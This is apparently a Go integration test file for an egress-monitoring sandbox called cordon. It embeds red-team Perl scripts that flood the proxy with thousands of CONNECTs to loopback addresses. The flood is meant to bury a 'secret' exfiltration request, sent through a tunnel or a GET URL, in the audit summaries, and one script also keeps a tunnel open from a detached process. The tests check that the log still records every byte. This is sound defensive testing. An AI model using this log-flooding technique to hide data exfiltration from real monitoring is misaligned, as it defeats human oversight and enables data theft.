package integration

import (
	"path/filepath"
	"regexp"
	"strconv"
	"testing"

	"github.com/cordonhq/cordon/internal/event"
)

// distinctFloodExfil floods the proxy with allowed CONNECTs, one connection each, to
// port 9 of distinct loopback addresses where nothing listens (127.P.X.Y: no byte
// moved, a new destination each time), from ARGV[0] processes at once: first ARGV[1]
// of them (past the allow budget's burst), then ARGV[2] rounds of 1300 (the budget's
// refill, and past the 1024 destinations a summary tells apart), each round after a
// pause of 1.1 s, longer than a summary's second, so that each opens a summary of its
// own. Once a round's flooders are done, while a second, short flood spends the
// refill (so that what comes then is not itemized), it sends a request through a
// CONNECT tunnel to the allowed server at 127.0.0.2:ARGV[3]: the exfiltration the
// flood would hide, past the round's 1024 destinations in the summary they opened.
// It prints how many tunnels it made and the bytes it sent up through them. With
// ARGV[4] "get" it sends the request as a plain-HTTP GET through the proxy instead,
// the data in its URL.
const distinctFloodExfil = `use IO::Socket::INET;
my ($procs, $first, $rounds, $port, $mode) = @ARGV;
sub flood {
  my ($r, $part, $n) = @_; my @kids;
  for my $p (1..$procs) {
    my $pid = fork() // die "fork: $!";
    if ($pid == 0) {
      for my $i (1..$n) {
        my $s = IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => 3128, Proto => "tcp") or die "connect: $!";
        my $d = "127.$p." . (16 * $r + 8 * $part + int($i / 250)) . "." . (1 + $i % 250) . ":9";
        print $s "CONNECT $d HTTP/1.1\r\nHost: $d\r\n\r\n";
        my $status = <$s>; close $s;
      }
      exit 0;
    }
    push @kids, $pid;
  }
  return @kids;
}
sub reap { for my $k (@_) { waitpid($k, 0); $? == 0 or die "flooder: $?"; } }
my ($tunnels, $up) = (0, 0);
reap(flood(0, 0, int($first / $procs)));
for my $r (1..$rounds) {
  select(undef, undef, undef, 1.1);
  reap(flood($r, 0, int(1300 / $procs)));
  my @spend = flood($r, 1, 100);
  my $s = IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => 3128, Proto => "tcp") or die "connect: $!";
  if ($mode eq "get") {
    print $s "GET http://127.0.0.2:$port/hello?secret=" . ("s" x 1000) . " HTTP/1.0\r\nHost: 127.0.0.2:$port\r\n\r\n";
    my $status = <$s> // die "no answer"; $status =~ m{^HTTP/1\.[01] 200 } or die "refused: $status";
  } else {
    print $s "CONNECT 127.0.0.2:$port HTTP/1.1\r\nHost: 127.0.0.2:$port\r\n\r\n";
    my $status = <$s> // die "no answer";
    $status =~ m{^HTTP/1\.[01] 200 } or die "tunnel refused: $status";
    while (my $h = <$s>) { last if $h eq "\r\n"; }
    my $req = "GET /hello?secret=" . ("s" x 1000) . " HTTP/1.0\r\nHost: 127.0.0.2:$port\r\n\r\n";
    print $s $req; $up += length $req;
  }
  1 while <$s>; close $s; $tunnels++;
  reap(@spend);
}
print "tunnels $tunnels up $up\n";
`

// TestRedAllowExfilPastDistinct (red team, redallow): four flooders make allowed
// CONNECTs to distinct loopback addresses on a port where nothing listens, past the
// allow budget's burst and then in three rounds of more than 1024 (the red team's
// flood was 32,000 in one go), each summary telling 1024 destinations apart and then
// no more, and after each round's 1024 the workload sends a request through a tunnel
// to an allowed server, in the same summary. Every byte sent up is in the log
// under its destination, named: none of it is summed into a summary's other, where a
// reviewer could not tell where it went (before 23b6387 a destination sent bytes past
// the 1024 told apart was never named).
func TestRedAllowExfilPastDistinct(t *testing.T) {
	w := newWorld(t)
	up := newUpstream(t, false, "127.0.0.2:0")
	w.egressContract("9", up.port)
	mustWrite(t, filepath.Join(w.ws, "flood.pl"), distinctFloodExfil)
	r := w.sh("perl flood.pl 4 2400 3 " + up.port + " tunnel")
	got := regexp.MustCompile(`tunnels (\d+) up (\d+)`).FindStringSubmatch(r.stdout)
	if r.code != 0 || got == nil {
		t.Fatalf("flood: %v", r)
	}
	sent, _ := strconv.ParseInt(got[2], 10, 64)
	exfil := "127.0.0.2:" + up.port
	var logged, hidden int64
	atLeast := false
	for _, rec := range lastRun(t, w) {
		switch rec.Type {
		case event.NetAllow:
			var b event.NetBody
			if err := rec.DecodeBody(&b); err != nil {
				t.Fatal(err)
			}
			if netTargetOf(b) == exfil {
				logged += b.BytesUp
			}
		case event.NetAllowSummary:
			var b event.NetAllowSummaryBody
			if err := rec.DecodeBody(&b); err != nil {
				t.Fatal(err)
			}
			if b.DestinationsAtLeast {
				atLeast = true
			}
			logged += b.Named[exfil].BytesUp
			if b.Other != nil {
				hidden += b.Other.BytesUp
			}
		}
	}
	if !atLeast {
		t.Fatalf("no summary told 1024 destinations apart: the flood was too slow to test (%s)", r.stdout)
	}
	if hidden != 0 || logged != sent {
		t.Errorf("the workload sent %d bytes up to %s; the log names %d of them there and sums %d under other", sent, exfil, logged, hidden)
	}
	show := w.cordon("", "audit", "show", "last")
	assertContains(t, "audit show", show.stdout, exfil)
}

func netTargetOf(b event.NetBody) string {
	return b.Host + ":" + strconv.Itoa(int(b.Port))
}

// heldTunnelFlood opens a CONNECT tunnel to the allowed server at 127.0.0.2:ARGV[1]
// and sends a request on it, makes ARGV[0] allowed CONNECTs to 127.0.0.3:9 where
// nothing listens (past the allow budget), sends a second request on the tunnel, and
// leaves it open in a child that outlives the command (setsid, sleeping): the tunnel's
// attempt ends only at the run's teardown. It prints the bytes it sent up the tunnel.
const heldTunnelFlood = `use IO::Socket::INET; use POSIX;
my ($n, $port) = @ARGV;
my $t = IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => 3128, Proto => "tcp") or die "connect: $!";
print $t "CONNECT 127.0.0.2:$port HTTP/1.1\r\nHost: 127.0.0.2:$port\r\n\r\n";
my $status = <$t> // die "no answer"; $status =~ m{^HTTP/1\.[01] 200 } or die "refused: $status";
while (my $h = <$t>) { last if $h eq "\r\n"; }
my $up = 0;
sub get { my $req = "GET /hello?" . ("x" x $_[0]) . " HTTP/1.1\r\nHost: 127.0.0.2:$port\r\n\r\n";
  print $t $req; $up += length $req; my $len = 0;
  my $st = <$t>; while (my $h = <$t>) { last if $h eq "\r\n"; $len = $1 if $h =~ /^Content-Length:\s*(\d+)/i; }
  read($t, my $b, $len); }
get(100);
for my $i (1..$n) {
  my $s = IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => 3128, Proto => "tcp") or die "connect: $!";
  print $s "CONNECT 127.0.0.3:9 HTTP/1.1\r\nHost: 127.0.0.3:9\r\n\r\n"; my $st = <$s>; close $s;
}
get(5000);
print "up $up\n";
if (fork() == 0) { POSIX::setsid() if defined &POSIX::setsid; close STDOUT; close STDERR; sleep 3600; exit 0; }
exit 0;
`

// TestRedAllowHeldTunnel (red team, redallow): in a session, a tunnel to an allowed
// server carries bytes before and after a flood past the allow budget and is still open
// when the command ends, held by a process it left behind. Its attempt ends at session
// stop, after the command's summary and cmd.end; the log still has every byte it sent
// up, under its destination, and verifies. (In cordon run the sandbox's end closes it
// before cmd.end.)
func TestRedAllowHeldTunnel(t *testing.T) {
	w := newWorld(t)
	up := newUpstream(t, false, "127.0.0.2:0")
	w.egressContract("9", up.port)
	mustWrite(t, filepath.Join(w.ws, "held.pl"), heldTunnelFlood)
	id := w.startSession()
	r := w.cordon("", "exec", id, "--", "perl", "held.pl", "3000", up.port)
	got := regexp.MustCompile(`up (\d+)`).FindStringSubmatch(r.stdout)
	if r.code != 0 || got == nil {
		t.Fatalf("flood: %v", r)
	}
	if r := w.cordon("", "exec", id, "--", "true"); r.code != 0 {
		t.Fatalf("exec: %v", r)
	}
	if s := w.cordon("", "session", "stop", id); s.code != 0 {
		t.Fatalf("session stop: %v", s)
	}
	sent, _ := strconv.ParseInt(got[1], 10, 64)
	dest := "127.0.0.2:" + up.port
	var logged int64
	ended, heldAfter := false, false
	recs := sessionEvents(t, w, id)
	for _, rec := range recs {
		switch rec.Type {
		case event.CmdEnd:
			ended = true
		case event.NetAllow:
			var b event.NetBody
			if err := rec.DecodeBody(&b); err != nil {
				t.Fatal(err)
			}
			if netTargetOf(b) == dest {
				logged += b.BytesUp
				heldAfter = ended
			}
		case event.NetAllowSummary:
			var b event.NetAllowSummaryBody
			if err := rec.DecodeBody(&b); err != nil {
				t.Fatal(err)
			}
			logged += b.Named[dest].BytesUp
		}
	}
	if a := tallyAllowed(t, recs); a.summaries == 0 {
		t.Fatalf("the flood did not get past the budget (%d net.allow lines)", a.itemized)
	}
	if !heldAfter {
		t.Errorf("the tunnel's net.allow came before the command's cmd.end: it was not held past it")
	}
	if logged != sent {
		t.Errorf("the workload sent %d bytes up the held tunnel to %s; the log has %d there", sent, dest, logged)
	}
	if v := w.cordon("", "audit", "verify", id); v.code != 0 {
		t.Errorf("audit verify: %v", v)
	}
}

// TestRedAllowGetPastNamed (red team, redallow): the same flood, the data sent instead
// in the URL of a plain-HTTP GET after each round, which bytes_up (a body's) does
// not count. Every GET is in the log under its destination, itemized or named in a
// summary (before b65a304, past the 64 destinations named it was summed into other).
func TestRedAllowGetPastNamed(t *testing.T) {
	w := newWorld(t)
	up := newUpstream(t, false, "127.0.0.2:0")
	w.egressContract("9", up.port)
	mustWrite(t, filepath.Join(w.ws, "flood.pl"), distinctFloodExfil)
	r := w.sh("perl flood.pl 4 2400 3 " + up.port + " get")
	got := regexp.MustCompile(`tunnels (\d+) up`).FindStringSubmatch(r.stdout)
	if r.code != 0 || got == nil {
		t.Fatalf("flood: %v", r)
	}
	gets, _ := strconv.ParseInt(got[1], 10, 64)
	exfil := "127.0.0.2:" + up.port
	var logged int64
	summaries := 0
	for _, rec := range lastRun(t, w) {
		switch rec.Type {
		case event.NetAllow:
			var b event.NetBody
			if err := rec.DecodeBody(&b); err != nil {
				t.Fatal(err)
			}
			if netTargetOf(b) == exfil {
				logged++
			}
		case event.NetAllowSummary:
			var b event.NetAllowSummaryBody
			if err := rec.DecodeBody(&b); err != nil {
				t.Fatal(err)
			}
			summaries++
			logged += b.Named[exfil].Attempts
		}
	}
	if summaries == 0 {
		t.Fatalf("the flood did not get past the budget (%s)", r.stdout)
	}
	if logged != gets {
		t.Errorf("the workload sent %d GETs to %s; the log has %d there, itemized or named", gets, exfil, logged)
	}
}
